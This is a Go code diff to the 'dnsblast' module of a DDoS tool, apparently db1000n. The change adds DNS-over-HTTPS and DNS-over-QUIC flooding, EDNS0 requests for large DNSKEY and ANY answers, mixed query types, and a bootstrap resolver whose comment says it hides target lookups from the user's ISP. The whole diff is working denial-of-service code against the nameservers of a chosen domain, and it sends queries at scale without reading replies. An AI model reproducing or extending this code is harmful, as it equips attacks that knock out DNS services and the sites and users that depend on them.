@@ -2,34 +2,67 @@ package dnsblast
 
 import (
 	"context"
-	"crypto/tls"
 	"fmt"
 	"log"
+	"math/rand"
 	"net"
 	"strconv"
+	"strings"
 	"sync"
 	"time"
 
+	"github.com/Arriven/db1000n/src/dnsblast/bootstrap"
 	"github.com/Arriven/db1000n/src/utils"
 	"github.com/miekg/dns"
-	utls "github.com/refraction-networking/utls"
 )
 
 const (
 	DefaultDNSPort        = 53
 	DefaultDNSOverTLSPort = 853
+	DefaultDoHPort        = 443
+	DefaultDoQPort        = 853
 
 	UDPProtoName    = "udp"
 	TCPProtoName    = "tcp"
 	TCPTLSProtoName = "tcp-tls"
+	DoHProtoName    = "doh"
+	DoQProtoName    = "doq"
 )
 
 type Config struct {
 	RootDomain      string
-	Protocol        string        // "udp", "tcp", "tcp-tls"
+	Protocol        string        // "udp", "tcp", "tcp-tls", "doh", "doq"
 	SeedDomains     []string      // Used to generate domain names using the Distinct Heavy Hitter algorithm
 	Delay           time.Duration // The delay between two packets to send
 	ParallelQueries int
+	EnableHTTP3     bool   // Negotiate HTTP/3 for DoH instead of falling back to HTTP/1.1 over TLS
+	BootstrapDNS    string // Plain ip:port used to resolve NS records and DoT/DoH/DoQ hostnames (not DoH over HTTP/3); defaults to bootstrap.DefaultAddress
+
+	// DoHMethod selects the HTTP method DoH queries are sent with: "POST"
+	// (wire-format body, RFC 8484 section 4.1) or "GET" (base64url `dns=`
+	// query parameter, RFC 8484 section 4.1.1). Defaults to POST when empty.
+	DoHMethod string
+
+	// DisableTCPRetryOnTruncation turns off the automatic TCP retry that
+	// normally follows a truncated (TC-flagged) UDP response. Off by
+	// default; also settable via the DB1000N_DNS_DISABLE_TCP_RETRY env var.
+	DisableTCPRetryOnTruncation bool
+
+	// QueryTypes controls the mix of query types each worker samples from
+	// per iteration. Defaults to defaultQueryTypeWeights when empty.
+	QueryTypes []QueryTypeWeight
+
+	// EDNS0 attaches an OPT record to every query, which is required to get
+	// large answers (DNSKEY, ANY) back instead of having them truncated.
+	EDNS0           bool
+	EDNS0BufferSize uint16 // UDP buffer size advertised in the OPT record, e.g. 4096
+	EDNS0DO         bool   // DNSSEC OK bit
+
+	// SampleRate is the fraction (0..1) of queries that read their response
+	// and report it to MetricsSink instead of firing and forgetting. Ignored
+	// when MetricsSink is nil.
+	SampleRate  float64
+	MetricsSink MetricsSink
 }
 
 type DNSBlaster struct{}
@@ -41,7 +74,9 @@ func Start(ctx context.Context, config *Config) error {
 		"[rootDomain=%s; proto=%s; seeds=%v; delay=%s; parallelQueries=%d]",
 		config.RootDomain, config.Protocol, config.SeedDomains, config.Delay, config.ParallelQueries)
 
-	nameservers, err := getNameservers(config.RootDomain, config.Protocol)
+	bootstrapResolver := bootstrap.NewResolver(config.BootstrapDNS)
+
+	nameservers, err := getNameservers(config.RootDomain, config.Protocol, bootstrapResolver)
 	if err != nil {
 		return fmt.Errorf("failed to resolve nameservers for the root domain [rootDomain=%s]: %s",
 			config.RootDomain, err)
@@ -53,10 +88,20 @@ func Start(ctx context.Context, config *Config) error {
 	blaster := NewDNSBlaster()
 
 	stressTestParameters := &StressTestParameters{
-		Delay:           config.Delay,
-		Protocol:        config.Protocol,
-		SeedDomains:     config.SeedDomains,
-		ParallelQueries: config.ParallelQueries,
+		Delay:                       config.Delay,
+		Protocol:                    config.Protocol,
+		SeedDomains:                 config.SeedDomains,
+		ParallelQueries:             config.ParallelQueries,
+		EnableHTTP3:                 config.EnableHTTP3,
+		DoHMethod:                   config.DoHMethod,
+		BootstrapResolver:           bootstrapResolver,
+		DisableTCPRetryOnTruncation: config.DisableTCPRetryOnTruncation,
+		QueryTypes:                  config.QueryTypes,
+		EDNS0:                       config.EDNS0,
+		EDNS0BufferSize:             config.EDNS0BufferSize,
+		EDNS0DO:                     config.EDNS0DO,
+		SampleRate:                  config.SampleRate,
+		MetricsSink:                 config.MetricsSink,
 	}
 
 	for _, nameserver := range nameservers {
@@ -80,28 +125,41 @@ func NewDNSBlaster() *DNSBlaster {
 }
 
 type StressTestParameters struct {
-	Delay           time.Duration
-	ParallelQueries int
-	Protocol        string
-	SeedDomains     []string
+	Delay                       time.Duration
+	ParallelQueries             int
+	Protocol                    string
+	SeedDomains                 []string
+	EnableHTTP3                 bool
+	DoHMethod                   string
+	BootstrapResolver           *bootstrap.Resolver
+	DisableTCPRetryOnTruncation bool
+	QueryTypes                  []QueryTypeWeight
+	EDNS0                       bool
+	EDNS0BufferSize             uint16
+	EDNS0DO                     bool
+	SampleRate                  float64
+	MetricsSink                 MetricsSink
 }
 
 func (rcv *DNSBlaster) ExecuteStressTest(ctx context.Context, nameserver string, parameters *StressTestParameters) error {
 	defer utils.PanicHandler()
 
 	var (
-		awaitGroup    sync.WaitGroup
-		reusableQuery = &QueryParameters{
-			HostAndPort: nameserver,
-			QName:       "", // Will be generated on each cycle
-			QType:       dns.TypeA,
-		}
+		awaitGroup sync.WaitGroup
+		qname      string // Will be generated on each cycle
+
+		sampler = newQueryTypeSampler(parameters.QueryTypes)
 
 		keepAliveCounter  = 0
 		keepAliveReminder = 256
 		nextLoopTicker    = time.NewTicker(parameters.Delay)
 	)
-	sharedDNSClient := newDefaultDNSClient(parameters.Protocol)
+	upstream, err := NewUpstream(ctx, buildUpstreamAddress(parameters.Protocol, nameserver), parameters.EnableHTTP3,
+		parameters.DoHMethod, parameters.BootstrapResolver, parameters.DisableTCPRetryOnTruncation)
+	if err != nil {
+		return fmt.Errorf("failed to set up an upstream [proto=%s; nameserver=%s]: %w", parameters.Protocol, nameserver, err)
+	}
+	defer upstream.Close()
 
 	dhhGenerator, err := NewDistinctHeavyHitterGenerator(parameters.SeedDomains)
 	if err != nil {
@@ -112,9 +170,9 @@ func (rcv *DNSBlaster) ExecuteStressTest(ctx context.Context, nameserver string,
 	defer nextLoopTicker.Stop()
 
 blastLoop:
-	for reusableQuery.QName = range dhhGenerator.Next() {
+	for qname = range dhhGenerator.Next() {
 		if keepAliveCounter == keepAliveReminder {
-			log.Printf("[DNS BLAST] Still blasting to [server=%s], OK!", reusableQuery.HostAndPort)
+			log.Printf("[DNS BLAST] Still blasting to [server=%s], OK!", nameserver)
 			keepAliveCounter = 0
 		} else {
 			keepAliveCounter += 1
@@ -130,9 +188,28 @@ blastLoop:
 
 		awaitGroup.Add(parameters.ParallelQueries)
 		for i := 0; i < parameters.ParallelQueries; i++ {
+			// QueryParameters is built fresh per worker (rather than shared)
+			// since QType is now sampled independently for each query.
+			query := &QueryParameters{
+				HostAndPort:     nameserver,
+				QName:           qname,
+				QType:           sampler.sample(),
+				EDNS0:           parameters.EDNS0,
+				EDNS0BufferSize: parameters.EDNS0BufferSize,
+				EDNS0DO:         parameters.EDNS0DO,
+			}
+
 			go func() {
 				defer utils.PanicHandler()
-				rcv.SimpleQueryWithNoResponse(sharedDNSClient, reusableQuery)
+
+				if parameters.MetricsSink != nil && rand.Float64() < parameters.SampleRate {
+					response := rcv.SimpleQuery(upstream, query)
+					parameters.MetricsSink.RecordQuery(nameserver, parameters.Protocol, query.QType,
+						response.Latency, response.RCode, response.Truncated, response.Err)
+				} else {
+					rcv.SimpleQueryWithNoResponse(upstream, query)
+				}
+
 				awaitGroup.Done()
 			}()
 		}
@@ -154,103 +231,119 @@ type QueryParameters struct {
 	HostAndPort string
 	QName       string
 	QType       uint16
+
+	EDNS0           bool
+	EDNS0BufferSize uint16
+	EDNS0DO         bool
 }
 
 type Response struct {
-	WithErr bool
-	Err     error
-	Latency time.Duration
+	WithErr   bool
+	Err       error
+	Latency   time.Duration
+	RCode     int
+	Truncated bool
 }
 
-func (rcv *DNSBlaster) SimpleQuery(sharedDNSClient *dns.Client, parameters *QueryParameters) *Response {
-	question := new(dns.Msg).
-		SetQuestion(dns.Fqdn(parameters.QName), parameters.QType)
-
-	co, err := sharedDNSClient.Dial(parameters.HostAndPort)
-	if err != nil {
-		return &Response{
-			WithErr: err != nil,
-			Err:     err,
-		}
-	}
-
-	// Upgrade connection to use randomized ClientHello for TCP-TLS connections
-	if sharedDNSClient.Net == TCPTLSProtoName {
-		co.Conn = utls.UClient(co, &utls.Config{InsecureSkipVerify: true}, utls.HelloRandomized)
-	}
-	defer co.Close()
+func (rcv *DNSBlaster) SimpleQuery(upstream Upstream, parameters *QueryParameters) *Response {
+	question := buildQuestion(parameters)
 
-	_, rtt, err := sharedDNSClient.ExchangeWithConn(question, co)
-	return &Response{
+	reply, rtt, err := upstream.Exchange(context.Background(), question)
+	response := &Response{
 		WithErr: err != nil,
 		Err:     err,
 		Latency: rtt,
 	}
+
+	if reply != nil {
+		response.RCode = reply.Rcode
+		response.Truncated = reply.Truncated
+	}
+
+	return response
 }
 
-func (rcv *DNSBlaster) SimpleQueryWithNoResponse(sharedDNSClient *dns.Client, parameters *QueryParameters) {
-	question := new(dns.Msg).
-		SetQuestion(dns.Fqdn(parameters.QName), parameters.QType)
+func (rcv *DNSBlaster) SimpleQueryWithNoResponse(upstream Upstream, parameters *QueryParameters) {
+	question := buildQuestion(parameters)
 
-	co, err := sharedDNSClient.Dial(parameters.HostAndPort)
-	if err != nil {
-		log.Printf("[DNS BLAST] failed to dial remote host [host=%s] to do the DNS query: %s",
-			parameters.HostAndPort, err)
-		return
-	}
-	// Upgrade connection to use randomized ClientHello for TCP-TLS connections
-	if sharedDNSClient.Net == TCPTLSProtoName {
-		co.Conn = utls.UClient(co, &utls.Config{InsecureSkipVerify: true}, utls.HelloRandomized)
+	if _, _, err := upstream.Exchange(context.Background(), question); err != nil {
+		log.Printf("[DNS BLAST] failed to complete the DNS query [upstream=%s]: %s", upstream.Address(), err)
 	}
-	defer co.Close()
+}
 
-	_, _, err = sharedDNSClient.Exchange(question, parameters.HostAndPort)
-	if err != nil {
-		log.Printf("[DNS BLAST] failed to complete the DNS query: %s", err)
-		return
+// buildQuestion assembles the DNS message for parameters, attaching an OPT
+// record when EDNS0 is requested so that large answers (DNSKEY, ANY) aren't
+// truncated and left to the UDP upstream's TCP retry (see tcpRetrier).
+func buildQuestion(parameters *QueryParameters) *dns.Msg {
+	question := new(dns.Msg).SetQuestion(dns.Fqdn(parameters.QName), parameters.QType)
+
+	if parameters.EDNS0 {
+		bufferSize := parameters.EDNS0BufferSize
+		if bufferSize == 0 {
+			bufferSize = defaultEDNS0BufferSize
+		}
+
+		question.SetEdns0(bufferSize, parameters.EDNS0DO)
 	}
+
+	return question
 }
 
+const defaultEDNS0BufferSize = 4096
+
 const (
 	dialTimeout  = 1 * time.Second        // Let's not wait long if the server cannot be dialled, we all know why
 	writeTimeout = 500 * time.Millisecond // Longer write timeout than read timeout just to make sure the query is uploaded
 	readTimeout  = 300 * time.Millisecond // Not really interested in reading responses
 )
 
-func newDefaultDNSClient(proto string) *dns.Client {
-	c := &dns.Client{
-		Dialer: &net.Dialer{
-			Timeout: dialTimeout,
-		},
-		DialTimeout:  dialTimeout,
-		WriteTimeout: writeTimeout,
-		ReadTimeout:  readTimeout,
-		Net:          proto,
-	}
-
-	if c.Net == TCPTLSProtoName {
-		c.TLSConfig = &tls.Config{
-			InsecureSkipVerify: true,
+// getNameservers resolves the nameservers to blast for rootDomain. If the
+// protocol is doh or doq and rootDomain is already an explicit https:// or
+// quic:// endpoint (as opposed to a plain domain), it's returned as the only
+// nameserver instead of going through NS lookup (an https:// URL as is, a
+// quic:// one with the scheme stripped to host:port), since there's nothing
+// to resolve: the user already told us where to send queries. Otherwise the NS lookup itself goes through resolver rather than
+// the system resolver, so picking a target doesn't leak through the user's
+// ISP.
+func getNameservers(rootDomain, protocol string, resolver *bootstrap.Resolver) (res []string, err error) {
+	if protocol == DoHProtoName || protocol == DoQProtoName {
+		if parsed, ok := parseExplicitEndpoint(rootDomain); ok {
+			return []string{parsed}, nil
 		}
 	}
 
-	return c
-}
-
-func getNameservers(rootDomain string, protocol string) (res []string, err error) {
 	port := DefaultDNSPort
-	if protocol == TCPTLSProtoName {
+	switch protocol {
+	case TCPTLSProtoName:
 		port = DefaultDNSOverTLSPort
+	case DoHProtoName:
+		port = DefaultDoHPort
+	case DoQProtoName:
+		port = DefaultDoQPort
 	}
 
-	nameservers, err := net.LookupNS(rootDomain)
+	nameservers, err := resolver.LookupNS(rootDomain)
 	if err != nil {
 		return nil, err
 	}
 
 	for _, nameserver := range nameservers {
-		res = append(res, net.JoinHostPort(nameserver.Host, strconv.Itoa(port)))
+		res = append(res, net.JoinHostPort(nameserver, strconv.Itoa(port)))
 	}
 
 	return res, nil
 }
+
+// parseExplicitEndpoint recognizes a root domain that's actually a full
+// DoH/DoQ endpoint URL rather than a plain domain to run NS lookup against.
+func parseExplicitEndpoint(rootDomain string) (string, bool) {
+	if strings.HasPrefix(rootDomain, "https://") {
+		return rootDomain, true
+	}
+
+	if strings.HasPrefix(rootDomain, "quic://") {
+		return strings.TrimPrefix(rootDomain, "quic://"), true
+	}
+
+	return "", false
+}